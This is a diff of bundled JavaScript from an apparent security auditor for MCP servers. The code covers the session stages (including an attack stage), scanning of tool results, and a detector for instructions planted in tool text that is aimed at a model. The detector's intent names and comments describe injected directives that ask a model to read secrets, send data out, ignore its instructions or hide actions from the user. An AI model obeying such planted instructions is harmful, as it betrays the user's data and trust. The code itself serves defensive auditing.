-function templateValue(name) {
-    const kind = hintKind(safeDecode(name));
-    if (kind === 'path' || kind === 'filename')
-        return 'notes.txt';
-    if (kind === undefined || kind === 'text')
-        return 'hello';
-    return hintString(name, 0) ?? 'hello';
-}
-function encodeTemplateValue(value, reserved) {
-    const allowed = reserved ? /[A-Za-z0-9\-._~:/?#[\]@!$&'()*+,;=]/ : /[A-Za-z0-9\-._~]/;
-    let out = '';
-    for (const char of value) {
-        out += allowed.test(char) ? char : [...Buffer.from(char, 'utf8')].map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');
+    catch {
+        return [text];
     }
-    return out;
+}
+/** The listing without the items, new since `initial`, whose name or URI carries an attack's marker or value. */
+function withoutAttackItems(listing, initial, calls) {
+    const attacks = calls.flatMap((call) => (call.attack ? [call.attack] : []));
+    if (attacks.length === 0)
+        return listing;
+    const named = (...texts) => texts.some((text) => text !== undefined &&
+        attack_items_forms(text).some((form) => attacks.some((attack) => form.includes(attack.marker) || (attack.value.length >= 8 && form.includes(attack.value)))));
+    const tools = new Set(initial.tools.map((tool) => tool.name));
+    const resources = new Set(initial.resources.map((resource) => resource.uri));
+    const templates = new Set(initial.resourceTemplates.map((template) => template.uriTemplate));
+    const prompts = new Set(initial.prompts.map((prompt) => prompt.name));
+    return {
+        tools: listing.tools.filter((tool) => tools.has(tool.name) || !named(tool.name, tool.title)),
+        resources: listing.resources.filter((resource) => resources.has(resource.uri) || !named(resource.uri, resource.name, resource.title)),
+        resourceTemplates: listing.resourceTemplates.filter((template) => templates.has(template.uriTemplate) || !named(template.uriTemplate, template.name, template.title)),
+        prompts: listing.prompts.filter((prompt) => prompts.has(prompt.name) || !named(prompt.name, prompt.title))
+    };
 }
 
-;// CONCATENATED MODULE: ./src/probe/run-scenario.ts
-/** The scenario's steps, in order; returns the items they reached (synthesis leaves those alone). */
-async function runScenario(steps, run) {
-    const reached = new Set();
-    const iterations = new Map();
-    for (const step of steps) {
-        const key = `${step.kind}\0${step.target}`;
-        const iteration = (iterations.get(key) ?? 0) + 1;
-        iterations.set(key, iteration);
-        const args = step.arguments ?? {};
-        const options = { step: step.name };
-        const answer = step.kind === 'tool'
-            ? await run.requests.callTool(step.target, iteration, args, { ...options, tool: run.tools.find((tool) => tool.name === step.target) })
-            : step.kind === 'resource'
-                ? await run.requests.readResource(step.target, iteration, options)
-                : await run.requests.getPrompt(step.target, iteration, args, options);
-        if (answer.ok) {
-            reached.add(key);
-            run.remember(answer.response);
-        }
-        if (step.expect !== undefined && answer.ok !== (step.expect === 'ok')) {
-            const outcome = run.calls[run.calls.length - 1]?.outcome ?? 'error';
-            run.gaps.push({
-                what: `scenario step "${step.name}"`,
-                why: `expected ${step.expect}, the ${step.kind} ${answer.ok ? 'succeeded' : `ended in ${outcome}`}`
-            });
-        }
-    }
-    return reached;
-}
+;// CONCATENATED MODULE: ./src/probe/stages/relist.ts
 
-// EXTERNAL MODULE: ./src/profile/server-text/scan-text.ts + 3 modules
-var scan_text = __webpack_require__(1147);
-;// CONCATENATED MODULE: ./src/profile/server-text/scan-result.ts
 
-// Every answer the session receives (a tool result, a prompt's messages, a resource's contents) is
-// scanned as it arrives, and only what was found is kept: at most SCAN_CHARS_PER_ANSWER characters of
-// its strings are looked at, at most HITS_PER_ANSWER hits kept per answer and HITS_PER_SESSION per session.
-const SCAN_CHARS_PER_ANSWER = 1 << 20;
-const HITS_PER_ANSWER = 20;
-const HITS_PER_SESSION = 1_000;
-const scan_result_MAX_DEPTH = 32;
-/** binary payloads: not text a model reads as such */
-const SKIPPED_KEYS = new Set(['blob', 'data', '_meta']);
-class ResultTextScanner {
-    options;
-    hits = [];
-    constructor(options = {}) {
-        this.options = options;
-    }
-    /** Scans one answer; what it finds is added to `hits`. */
-    scan(callId, response) {
-        if (this.hits.length >= HITS_PER_SESSION)
-            return;
-        let budget = SCAN_CHARS_PER_ANSWER;
-        let kept = 0;
-        const visit = (value, field, depth) => {
-            if (budget <= 0 || kept >= HITS_PER_ANSWER || depth > scan_result_MAX_DEPTH)
-                return;
-            if (typeof value === 'string') {
-                const text = value.length > budget ? value.slice(0, budget) : value;
-                budget -= text.length;
-                for (const hit of (0,scan_text/* scanText */.F)(text, this.options)) {
-                    if (kept >= HITS_PER_ANSWER || this.hits.length >= HITS_PER_SESSION)
-                        return;
-                    this.hits.push({ callId, field: field || 'result', hit });
-                    kept++;
-                }
-                return;
-            }
-            if (Array.isArray(value)) {
-                value.forEach((item, index) => visit(item, `${field}[${index}]`, depth + 1));
-                return;
-            }
-            if (typeof value === 'object' && value !== null) {
-                for (const [key, item] of Object.entries(value)) {
-                    if (!SKIPPED_KEYS.has(key))
-                        visit(item, field ? `${field}.${key}` : key, depth + 1);
-                }
-            }
-        };
-        visit(response, '', 0);
+// The session's last stage: everything listed again, to catch a surface that changed mid-session. A tool
+// or resource that appeared meanwhile is part of what the server does, so it is exercised too.
+/** At most this many resources that appeared mid-session are read. */
+const MAX_NEW_RESOURCES = 100;
+async function relist(session, requests, exercised) {
+    const { options, client, result } = session;
+    const listed = await listSurface(client, options.timeoutMs, 're-listing ', result.gaps, options.logger);
+    // what the attack stage's values made the server list is the attacks' doing, not its surface
+    const relisting = (result.relisting = withoutAttackItems(listed, result.listing, result.calls));
+    if (!exercised.synthesize)
+        return;
+    const known = new Set(result.listing.tools.map((tool) => tool.name));
+    await exercised.tools.exercise(relisting.tools.filter((candidate) => !known.has(candidate.name)));
+    const knownUris = new Set(result.listing.resources.map((resource) => resource.uri));
+    for (const resource of relisting.resources.filter((candidate) => !knownUris.has(candidate.uri)).slice(0, MAX_NEW_RESOURCES)) {
+        await requests.readResource(resource.uri, 1);
     }
 }
 
@@ -2780,310 +3978,41 @@ class ResultTextScanner {
 
 
 
+// The MCP session with the audited server, as stages in order (src/probe/stages/): connect (initialize,
+// through a client whose answers are traps), list, exercise, attack, re-list; then the shutdown MCP asks for.
+// The stages share the session's context and its call recorder, and fill in one ProbeResult.
 
 
 
 
-
-
-
-const STDERR_TAIL_BYTES = 16 * 1024;
-// A pause after each answer, so behaviour a call triggers in the background is attributed to it rather
-// than to the next call (the profile attributes by time window). An audit settles on the trace instead
-// (ProbeOptions.settle): the pause ends once the server has been quiet, at most after this long.
-const SETTLE_MS = 50;
-/**
- * Above this many tools + resources + templates + prompts, each item is called once and without the
- * settle pause: 5,000 tools × 3 calls × 50 ms would take over 12 minutes. Background behaviour of one
- * call may then be attributed to the next one.
- */
-const HUGE_SURFACE_ITEMS = 500;
-/** Attempts beyond --calls a tool gets to reach its success path (retries that learn from errors). */
-const EXTRA_ATTEMPTS = 3;
-class ProbeAborted extends Error {
-    partial;
-    constructor(partial) {
-        super('audit interrupted');
-        this.partial = partial;
-    }
-}
-const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
-function addNote(call, note) {
-    call.note = call.note ? `${call.note}; ${note}` : note;
-}
 async function probeServer(options) {
-    const { logger } = options;
-    const settle = options.settle ?? (() => sleep(SETTLE_MS));
-    let inFlight = null;
-    const oversizedCalls = new WeakMap();
-    const transport = options.transport({
-        onOversized: (bytes) => {
-            if (inFlight)
-                oversizedCalls.set(inFlight, bytes);
-            else
-                logger.warn(`the server sent a message of ${bytes} bytes; it was dropped (cap ${probe_transport/* MAX_MESSAGE_BYTES */.fv} bytes)`);
-        }
-    });
-    const positions = new AnswerPositions(transport, () => inFlight !== null);
-    let stderrTail = '';
-    transport.stderr?.on('data', (chunk) => {
-        stderrTail = (stderrTail + chunk.toString('utf8')).slice(-STDERR_TAIL_BYTES);
-    });
-    let closed = false;
-    let markClosed = () => undefined;
-    const whenClosed = new Promise((resolve) => (markClosed = resolve));
-    /** Resolves when the server's process has closed, or after `ms`, whichever comes first. */
-    const closedWithin = (ms) => new Promise((resolve) => {
-        const timer = setTimeout(resolve, ms);
-        void whenClosed.then(() => {
-            clearTimeout(timer);
-            resolve();
-        });
-    });
-    let nonJsonLines = 0;
-    // Every answer's text is scanned as it arrives; only what was found is kept (bounded).
-    const textScanner = new ResultTextScanner(options.canaries ? { canaries: options.canaries } : {});
-    const { client, clientRequests } = makeClient(options.rootDir, options.clientTraps ?? null, () => inFlight?.id ?? null, options.client?.name);
-    askProtocolVersion(transport, options.client?.protocolVersion);
-    client.onerror = (error) => {
-        if (error instanceof SyntaxError)
-            nonJsonLines += 1;
-        else
-            logger.debug(`client: ${describeError(error)}`);
-    };
-    const result = {
-        serverInfo: null,
-        listing: { tools: [], resources: [], resourceTemplates: [], prompts: [] },
-        relisting: null,
-        calls: [],
-        textHits: textScanner.hits,
-        gaps: [],
-        shutdownAt: 0,
-        stderrTail: '',
-        clientRequests
-    };
-    // The transport hook the client calls with the version it negotiated (one it supports, so no free text).
-    const passVersion = transport.setProtocolVersion?.bind(transport);
-    transport.setProtocolVersion = (version) => {
-        passVersion?.(version);
-        result.protocolVersion = version;
-    };
-    const shutdown = async (graceMs) => {
-        result.shutdownAt = result.shutdownAt || Date.now();
-        // The pid exists as soon as start() spawned the process, also while initialize is still pending.
-        const rootPid = transport.pid;
-        if (rootPid !== null && (0,process_tree/* isAlive */._n)(rootPid)) {
-            // End stdin first, as MCP's stdio shutdown asks; then TERM the server itself (not strace, whose
-            // SIGTERM would stop the tracing of the shutdown), then KILL whatever is left.
-            transport.endInput();
-            await closedWithin(graceMs);
-            await (0,process_tree/* stopTree */.dA)(rootPid, graceMs);
-        }
-        await transport.close().catch(() => undefined);
-        await client.close().catch(() => undefined);
-        result.stderrTail = stderrTail;
-    };
-    const onAbort = () => {
-        void shutdown(500);
-    };
-    options.signal?.addEventListener('abort', onAbort, { once: true });
-    const checkAborted = async () => {
-        if (options.signal?.aborted) {
-            await shutdown(500);
-            throw new ProbeAborted(result);
-        }
-    };
+    const session = new SessionContext(options);
     try {
-        const closedEarly = new Promise((_, reject) => {
-            transport.onclose = () => {
-                closed = true;
-                markClosed();
-                reject(new Error('closed'));
-            };
-        });
-        closedEarly.catch(() => undefined);
-        const connecting = client.connect(transport, { timeout: options.initializeTimeoutMs });
+        const initializedAt = await connect(session);
+        const budget = await list(session);
+        const requests = stageRequests(session);
         try {
-            await Promise.race([connecting, closedEarly]);
-        }
-        catch (error) {
-            const exitedEarly = closed;
-            await sleep(100); // let stderr drain
-            const exitCode = transport.exitCode;
-            await shutdown(500);
-            if (options.signal?.aborted)
-                throw new ProbeAborted(result);
-            const why = exitedEarly
-                ? 'the server exited before answering initialize'
-                : error instanceof types/* McpError */.Nh && error.code === types/* ErrorCode */.O4.RequestTimeout
-                    ? `the server did not answer initialize within ${Math.round(options.initializeTimeoutMs / 1000)}s`
-                    : `initialize failed: ${describeError(error)}`;
-            const garbage = nonJsonLines > 0 ? ` (it wrote ${nonJsonLines} non-JSON line(s) on stdout)` : '';
-            throw new errors/* ProbeStartError */.d9(why + garbage, stderrTail, exitCode);
-        }
-        if (nonJsonLines > 0)
-            logger.warn(`the server wrote ${nonJsonLines} non-JSON line(s) on stdout; they were ignored`);
-        const initializedAt = Date.now();
-        const version = client.getServerVersion();
-        result.serverInfo = version
-            ? { name: String(version.name), version: String(version.version), ...(version.title ? { title: String(version.title) } : {}) }
-            : null;
-        const instructions = client.getInstructions();
-        if (instructions)
-            result.instructions = instructions;
-        const requestOptions = { timeout: options.timeoutMs };
-        result.listing = await listSurface(client, options.timeoutMs, '', result.gaps, logger);
-        await checkAborted();
-        const surface = result.listing.tools.length + result.listing.resources.length + result.listing.resourceTemplates.length + result.listing.prompts.length;
-        const huge = surface > HUGE_SURFACE_ITEMS;
-        // callsPerTool 0: list only (a remote server, whose calls would act on a real service)
-        const callsPerTool = huge ? Math.min(1, options.callsPerTool) : options.callsPerTool;
-        const maxAttempts = huge ? 1 : callsPerTool + EXTRA_ATTEMPTS;
-        if (huge && options.callsPerTool > 1)
-            logger.info(`${surface} items: each is called once, without pauses between calls`);
-        /** Runs one request as a CallRecord; returns the answer when the call succeeded, else the error text. */
-        const record = async (kind, name, iteration, args, run, check, noteBefore, step) => {
-            const call = {
-                id: result.calls.length,
-                kind,
-                name,
-                iteration,
-                ...(args ? { arguments: args } : {}),
-                startedAt: Date.now(),
-                endedAt: 0,
-                outcome: 'ok',
-                ...(step !== undefined ? { step } : {})
-            };
-            if (noteBefore)
-                addNote(call, noteBefore);
-            result.calls.push(call);
-            inFlight = call;
-            positions.begin();
-            let answer;
-            try {
-                const response = await run();
-                textScanner.scan(call.id, response);
-                answer = { ok: true, response };
-                if (typeof response === 'object' && response !== null && response.isError === true) {
-                    call.outcome = 'error-result';
-                    answer = { ok: false, why: errorResultText(response) };
-                    if (answer.why)
-                        call.error = answer.why.slice(0, 500);
-                }
-                const mismatch = check?.(response);
-                if (mismatch)
-                    addNote(call, mismatch);
-            }
-            catch (error) {
-                call.outcome = outcomeOf(error);
-                call.error = describeError(error).slice(0, 500);
-                answer = { ok: false, why: describeError(error).slice(0, 4_000) };
-            }
-            call.endedAt = Date.now();
-            inFlight = null;
-            positions.end(call);
-            const droppedBytes = oversizedCalls.get(call);
-            if (droppedBytes !== undefined) {
-                call.outcome = 'oversized-result';
-                addNote(call, `the answer (${droppedBytes} bytes) was dropped: over the ${probe_transport/* MAX_MESSAGE_BYTES */.fv}-byte cap`);
-                delete call.error;
-                answer = { ok: false, why: 'oversized' };
-            }
-            if (!huge)
-                await settle();
-            await checkAborted();
-            if (closed)
-                throw new errors/* ServerProtocolError */.Gs(`the server exited during ${kind} ${name}`);
-            return answer;
-        };
-        const workspace = options.workspace ?? null;
-        const memory = new ResultMemory(workspace?.root ?? null);
-        const callAsTask = (name, args) => callToolAsTask(client, name, args, requestOptions);
-        const requests = {
-            callTool: (name, iteration, args, { tool, step, noteBefore } = {}) => record('tool', name, iteration, args, () => tool && needsTask(tool)
-                ? callAsTask(name, args)
-                : client.request({ method: 'tools/call', params: { name, arguments: args } }, types/* CallToolResultSchema */.TF, requestOptions), tool ? (response) => outputSchemaMismatch(tool, response) : undefined, noteBefore, step),
-            readResource: (uri, iteration, { step } = {}) => record('resource', uri, iteration, undefined, () => client.request({ method: 'resources/read', params: { uri } }, types/* ReadResourceResultSchema */.ve, requestOptions), undefined, undefined, step),
-            getPrompt: (name, iteration, args, { step } = {}) => record('prompt', name, iteration, args, () => client.request({ method: 'prompts/get', params: { name, arguments: args } }, types/* GetPromptResultSchema */.HM, requestOptions), undefined, undefined, step)
-        };
-        const tools = new ToolExerciser({
-            requests,
-            workspace,
-            memory,
-            calls: result.calls,
-            callsPerTool,
-            maxAttempts,
-            ...(options.callsCap ? { callsCap: options.callsCap } : {})
-        });
-        try {
-            const scenario = options.scenario ?? null;
-            const reached = scenario
-                ? await runScenario(scenario.steps, {
-                    requests,
-                    tools: result.listing.tools,
-                    remember: (response) => memory.remember(response),
-                    calls: result.calls,
-                    gaps: result.gaps
-                })
-                : new Set();
-            // callsPerTool 0 (a remote server): list only, nothing is called or read
-            const synthesize = callsPerTool > 0 && (scenario?.synthesize ?? true);
-            const unreached = (kind, name) => (items) => synthesize ? items.filter((item) => !reached.has(`${kind}\0${name(item)}`)) : [];
-            const listing = {
-                tools: unreached('tool', (tool) => tool.name)(result.listing.tools),
-                resources: unreached('resource', (resource) => resource.uri)(result.listing.resources),
-                resourceTemplates: synthesize ? result.listing.resourceTemplates : [],
-                prompts: unreached('prompt', (prompt) => prompt.name)(result.listing.prompts)
-            };
-            await tools.exercise(listing.tools, async () => {
-                for (const resource of listing.resources)
-                    await requests.readResource(resource.uri, 1);
-                for (const template of listing.resourceTemplates) {
-                    const uri = instantiateUriTemplate(template.uriTemplate);
-                    await record('resourceTemplate', template.uriTemplate, 1, { uri }, () => client.request({ method: 'resources/read', params: { uri } }, types/* ReadResourceResultSchema */.ve, requestOptions));
-                }
-                for (const prompt of result.listing.prompts.filter((candidate) => listing.prompts.includes(candidate))) {
-                    await requests.getPrompt(prompt.name, 1, synthesizePromptArguments(prompt));
-                }
-            });
-            if (synthesize && options.staticItems && !closed)
-                result.steered = await tools.steer(listing.tools, await options.staticItems());
-            if (synthesize && options.holdMs && !closed) {
-                // A held pass: the session stays open (the server's timers run), then each tool is called again.
-                logger.info(`holding the session open ${Math.round(options.holdMs / 1000)} s`);
-                await closedWithin(initializedAt + options.holdMs - Date.now());
-                await checkAborted();
-                if (!closed)
-                    await tools.again(listing.tools);
-            }
-            if (closed)
+            const exercised = await exercise(session, requests, budget, initializedAt);
+            if (session.closed)
                 throw new errors/* ServerProtocolError */.Gs('the server exited before it was exercised');
-            result.relisting = await listSurface(client, options.timeoutMs, 're-listing ', result.gaps, logger);
-            // A tool or resource that appeared mid-session is part of what the server does: exercise it too.
-            const known = new Set(result.listing.tools.map((tool) => tool.name));
-            if (synthesize) {
-                await tools.exercise(result.relisting.tools.filter((candidate) => !known.has(candidate.name)));
-                const knownUris = new Set(result.listing.resources.map((resource) => resource.uri));
-                for (const resource of result.relisting.resources.filter((candidate) => !knownUris.has(candidate.uri)).slice(0, 100)) {
-                    await requests.readResource(resource.uri, 1);
-                }
-            }
+            await attack(session, budget);
+            if (!session.closed)
+                await relist(session, requests, exercised);
         }
         catch (error) {
             if (error instanceof ProbeAborted)
                 throw error;
-            logger.warn(describeError(error));
+            options.logger.warn(describeError(error));
         }
-        if (closed)
+        const { result } = session;
+        // A server that exited under an attack was exercised: the attack stage recorded what ended it.
+        if (session.closed && !result.attack?.stopped)
             result.gaps.push({ what: 'session', why: endedWhy(result.calls) });
-        await shutdown(2_000);
+        await session.shutdown(2_000);
         return result;
     }
     finally {
-        options.signal?.removeEventListener('abort', onAbort);
-        const rootPid = transport.pid;
-        if (rootPid !== null && (0,process_tree/* isAlive */._n)(rootPid))
-            await (0,process_tree/* stopTree */.dA)(rootPid, 0);
+        await session.dispose();
     }
 }
 
@@ -3097,11 +4026,13 @@ async function probeServer(options) {
 /* harmony export */   p: () => (/* binding */ findInstructions)
 /* harmony export */ });
 /* unused harmony export INTENTS */
+/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(8815);
 // Instructions aimed at the model, found by what a sentence asks for, not by keywords alone. A sentence
 // is a directive when it is addressed to the reader ("you must", "before using this tool", an
 // imperative verb first); what it asks is one or more intents. An honest warning ("IMPORTANT: this tool
 // deletes files") asks nothing; a result that asks the model to show the user a list asks nothing of
 // these; "never pass passwords in the URL" forbids rather than asks.
+
 const INTENTS = [
     'read-secret',
     'hide-from-user',
@@ -3147,47 +4078,115 @@ function sentences(text) {
     return out;
 }
 const STRIP_LEAD = /^[\s>*_#`"'([\-•\d.)]+/;
-/** What the text asks of the model, sentence by sentence; null when it asks none of it. */
+/**
+ * What the text asks of the model, sentence by sentence; null when it asks none of it. A JSON or YAML
+ * document (a settings dump, a listing) is read as data: only its prose is read for instructions — each
+ * string value with words in it, and any key that is more than a name — so a path value or a field
+ * named like a credential asks nothing; an instruction needs imperative text addressed to the model.
+ */
 function findInstructions(text) {
     if (text.length < 12)
         return null;
+    const prose = documentProse(text);
+    if (prose === null)
+        return findInProse([{ text, index: 0 }]);
+    return findInProse(prose);
+}
+/** A JSON value or a YAML mapping or list of several lines, else null (prose). */
+function parseDocument(text) {
+    const trimmed = text.trim();
+    if (/^[[{]/.test(trimmed)) {
+        try {
+            return JSON.parse(trimmed);
+        }
+        catch {
+            // not JSON: maybe YAML flow style, maybe prose
+        }
+    }
+    // YAML only when every line is a `name: …` entry, a `- item`, a comment, or more lines of one of them
+    const lines = trimmed.split('\n').filter((line) => line.trim() !== '');
+    if (lines.length < 3 || !lines.every((line) => YAML_LINE.test(line)) || !YAML_ENTRY.test(lines[0]))
+        return undefined;
+    try {
+        const parsed = (0,yaml__WEBPACK_IMPORTED_MODULE_0__.parse)(trimmed);
+        return typeof parsed === 'object' && parsed !== null ? parsed : undefined;
+    }
+    catch {
+        return undefined;
+    }
+}
+const YAML_ENTRY = /^\s*(?:-\s+|[\w.-]+\s*:(?:\s|$)|#)/;
+const YAML_LINE = /^\s*(?:-\s|[\w.-]+\s*:(?:\s|$)|#|\s{2,}\S|[\]}])/;
+/** A key that names a field: it asks nothing, whatever it names (`apiKey`, `logPath`). */
+const FIELD_NAME = /^[\w.$@/-]{1,64}$/;
+/** The prose of a document: its string values with a space in them and its keys that are not names; null for no document. */
+function documentProse(text) {
+    const document = parseDocument(text);
+    if (document === undefined || typeof document !== 'object' || document === null)
+        return null;
+    const out = [];
+    const add = (value) => {
+        // a path, a URL, an identifier or a token: no words to ask anything with
+        if (!/\s/.test(value.trim()))
+            return;
+        out.push({ text: value, index: Math.max(0, text.indexOf(value.slice(0, 40))) });
+    };
+    const visit = (value, depth) => {
+        if (depth > 32 || out.length > 1000)
+            return;
+        if (typeof value === 'string')
+            return add(value);
+        if (Array.isArray(value))
+            return value.forEach((item) => visit(item, depth + 1));
+        if (typeof value === 'object' && value !== null)
+            for (const [key, item] of Object.entries(value)) {
+                if (!FIELD_NAME.test(key))
+                    add(key);
+                visit(item, depth + 1);
+            }
+    };
+    visit(document, 0);
+    return out;
+}
+function findInProse(texts) {
     const found = new Set();
     let redirects = false;
     let best = null;
-    const block = BLOCK.test(text);
-    if (block)
-        found.add('important-block');
-    for (const { sentence, index } of sentences(text)) {
-        const bare = sentence.replace(STRIP_LEAD, '');
-        const directive = IMPERATIVE_START.test(bare) || ADDRESSED.test(bare);
-        const intents = [];
-        if (IGNORE.test(bare))
-            intents.push('ignore-instructions');
-        if (HIDE.test(bare))
-            intents.push('hide-from-user');
-        if (directive) {
-            const secret = FILE_SECRET.test(bare) || (SECRET_PLACE.test(bare) && PASS_AS.test(bare));
-            if (secret && TAKE_VERB.test(bare) && !NEGATED_TAKE.test(bare))
-                intents.push('read-secret');
-            if (PASS_AS.test(bare) && !NEGATED_TAKE.test(bare))
-                intents.push('pass-as-argument');
-            if (CALL_TOOL.test(bare))
-                intents.push('call-tool');
-            if (SEND_VERB.test(bare) && ADDRESS.test(bare) && !NEGATED_TAKE.test(bare))
-                intents.push('send-out');
-            if (OTHER_TOOLS.test(bare) && MODIFY.test(bare)) {
-                intents.push('other-tools');
-                if (REDIRECT.test(bare))
-                    redirects = true;
+    for (const { text, index: offset } of texts) {
+        if (BLOCK.test(text))
+            found.add('important-block');
+        for (const { sentence, index } of sentences(text).map((entry) => ({ ...entry, index: entry.index + offset }))) {
+            const bare = sentence.replace(STRIP_LEAD, '');
+            const directive = IMPERATIVE_START.test(bare) || ADDRESSED.test(bare);
+            const intents = [];
+            if (IGNORE.test(bare))
+                intents.push('ignore-instructions');
+            if (HIDE.test(bare))
+                intents.push('hide-from-user');
+            if (directive) {
+                const secret = FILE_SECRET.test(bare) || (SECRET_PLACE.test(bare) && PASS_AS.test(bare));
+                if (secret && TAKE_VERB.test(bare) && !NEGATED_TAKE.test(bare))
+                    intents.push('read-secret');
+                if (PASS_AS.test(bare) && !NEGATED_TAKE.test(bare))
+                    intents.push('pass-as-argument');
+                if (CALL_TOOL.test(bare))
+                    intents.push('call-tool');
+                if (SEND_VERB.test(bare) && ADDRESS.test(bare) && !NEGATED_TAKE.test(bare))
+                    intents.push('send-out');
+                if (OTHER_TOOLS.test(bare) && MODIFY.test(bare)) {
+                    intents.push('other-tools');
+                    if (REDIRECT.test(bare))
+                        redirects = true;
+                }
             }
+            if (intents.length === 0)
+                continue;
+            for (const intent of intents)
+                found.add(intent);
+            const weight = intents.length + (intents.includes('read-secret') || intents.includes('ignore-instructions') ? 2 : 0);
+            if (!best || weight > best.weight)
+                best = { sentence, index, weight };
         }
-        if (intents.length === 0)
-            continue;
-        for (const intent of intents)
-            found.add(intent);
-        const weight = intents.length + (intents.includes('read-secret') || intents.includes('ignore-instructions') ? 2 : 0);
-        if (!best || weight > best.weight)
-            best = { sentence, index, weight };
     }
     if (!best)
         return null;
@@ -3441,6 +4440,93 @@ function scanText(text, options = {}) {
     if (ansi)
         hits.push({ kind: 'ansi', effects: ansi.effects, quote: quoteAt(text, ansi.index) });
     return hits;
+}
+
+
+/***/ }),
+
+/***/ 3217:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   LH: () => (/* binding */ MAX_LESSON_NAMES),
+/* harmony export */   _q: () => (/* binding */ writeReplyLesson),
+/* harmony export */   gi: () => (/* binding */ MAX_LESSON_FIELDS),
+/* harmony export */   u0: () => (/* binding */ MAX_LESSON_READS)
+/* harmony export */ });
+/* unused harmony exports LESSON_TYPES, ReplyLessonSchema, replyLessonReader */
+/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3024);
+/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
+/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1514);
+
+
+// What a tool's rejection of the sink's reply taught the next call of that tool: the fields its answer
+// named (a validator's paths and expected types, a TypeError's property, a KeyError), and whether it wanted
+// a list or an object at the top — and the names the server's code reads as one type wherever they appear,
+// learned from any of its tools. The auditor reads it from the tool's error text between calls
+// (probe/reply-lessons.ts) and writes it to a file in the run directory before the next call of that tool;
+// the sink in the sandbox reads that file per request. The run directory is outside the server's view,
+// and the file holds only names and types, never a value the server sent.
+const MAX_LESSON_FIELDS = 32;
+const MAX_LESSON_READS = 16;
+const MAX_LESSON_NAMES = 48;
+const MAX_LESSON_BYTES = (/* unused pure expression or super */ null && (16 * 1024));
+const LESSON_TYPES = ['string', 'number', 'boolean', 'array', 'object'];
+const KEY = zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().min(1).max(64);
+const ReplyLessonSchema = zod__WEBPACK_IMPORTED_MODULE_1__/* .object */ .Ikc({
+    /** the tool whose next call this is for */
+    tool: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().max(256),
+    /** the top of the JSON reply: a list, or an object */
+    root: zod__WEBPACK_IMPORTED_MODULE_1__/* ["enum"] */ .k5n(['array', 'object']).optional(),
+    /** paths into the reply (a number: every element of a list) with the type wanted there, when known */
+    fields: zod__WEBPACK_IMPORTED_MODULE_1__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_1__/* .object */ .Ikc({
+        path: zod__WEBPACK_IMPORTED_MODULE_1__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_1__/* .union */ .KCZ([KEY, zod__WEBPACK_IMPORTED_MODULE_1__/* .number */ .aig().int().min(0).max(1000)]))
+            .min(1)
+            .max(12),
+        expected: zod__WEBPACK_IMPORTED_MODULE_1__/* ["enum"] */ .k5n(LESSON_TYPES).optional()
+    }))
+        .max(MAX_LESSON_FIELDS)
+        .default([]),
+    /** properties read from something the reply left undefined: added at the top, under `data` and in each listed item */
+    reads: zod__WEBPACK_IMPORTED_MODULE_1__/* .array */ .YOg(KEY).max(MAX_LESSON_READS).default([]),
+    /**
+     * names the server's code reads as one type wherever they appear (`data.syncedWith.map` is a list in
+     * every answer of that API): learned from any of its tools, in force for all of them
+     */
+    names: zod__WEBPACK_IMPORTED_MODULE_1__/* .record */ .g1P(KEY, zod__WEBPACK_IMPORTED_MODULE_1__/* ["enum"] */ .k5n(LESSON_TYPES))
+        .refine((names) => Object.keys(names).length <= MAX_LESSON_NAMES)
+        .optional()
+});
+/** Writes the lesson for the next call (null: none), replacing the file whole so the sink never reads half of it. */
+function writeReplyLesson(path, lesson) {
+    const temporary = `${path}.next`;
+    (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.writeFileSync)(temporary, lesson ? JSON.stringify(lesson) : '', { mode: 0o600 });
+    (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.renameSync)(temporary, path);
+}
+/**
+ * The sink's reader: the lesson in force, read again only when the file changed (size and time), so a
+ * request costs one stat. A missing, oversized or malformed file is no lesson.
+ */
+function replyLessonReader(path) {
+    let seen = '';
+    let lesson = null;
+    return () => {
+        let stamp;
+        try {
+            const stat = statSync(path);
+            stamp = `${stat.size}:${stat.mtimeMs}:${stat.ino}`;
+            if (stamp === seen)
+                return lesson;
+            seen = stamp;
+            if (stat.size === 0 || stat.size > MAX_LESSON_BYTES)
+                return (lesson = null);
+            const parsed = ReplyLessonSchema.safeParse(JSON.parse(readFileSync(path, 'utf8')));
+            return (lesson = parsed.success ? parsed.data : null);
+        }
+        catch {
+            return (lesson = null);
+        }
+    };
 }
 
 
